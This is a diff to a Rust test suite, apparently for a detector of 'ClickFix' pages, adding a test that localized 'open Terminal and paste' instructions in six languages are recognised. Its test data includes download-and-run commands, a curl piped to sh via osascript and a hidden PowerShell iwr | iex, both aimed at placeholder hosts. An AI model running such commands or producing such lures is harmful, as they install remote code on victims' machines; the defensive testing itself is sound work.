@@ -2429,6 +2429,24 @@ mod tests {
     }
 
     #[test]
+    fn terminal_through_finders_utilities_in_other_languages() {
+        // Fortieth session: en "Utilities → Terminal" in de fr es it nl pt.
+        let cmd = "osascript -e 'do shell script \"curl -s https://m.test/p | sh\"'";
+        for steps in [
+            "Finder → Programme → Dienstprogramme → Terminal. Befehl einfügen (Cmd + V), dann Return.",
+            "Finder > Applications > Utilitaires > Terminal, collez la commande (Cmd + V) puis Entrée.",
+            "Finder → Aplicaciones → Utilidades → Terminal, pegue el comando (Cmd + V) y pulse Intro.",
+            "Finder → Applicazioni → Utility → Terminale, incolla il comando (Cmd + V) e premi Invio.",
+            "Finder → Programma's → Hulpprogramma's → Terminal, plak de opdracht (Cmd + V).",
+            "Finder → Aplicativos → Utilitários → Terminal, cole o comando (Cmd + V) e pressione Return.",
+        ] {
+            assert!(judged(cmd, steps), "{steps}");
+        }
+        // The paste step alone names no Terminal.
+        assert!(!judged(cmd, "Befehl einfügen (Cmd + V), dann Return."));
+    }
+
+    #[test]
     fn a_hidden_download_run_on_a_page_of_a_few_words_is_clickfix() {
         // Review 39 R39-M4: the steps are in a picture; the page says next to nothing.
         let cmd = "powershell -w hidden -c \"iwr https://relay-cdn.test/s | iex\"";
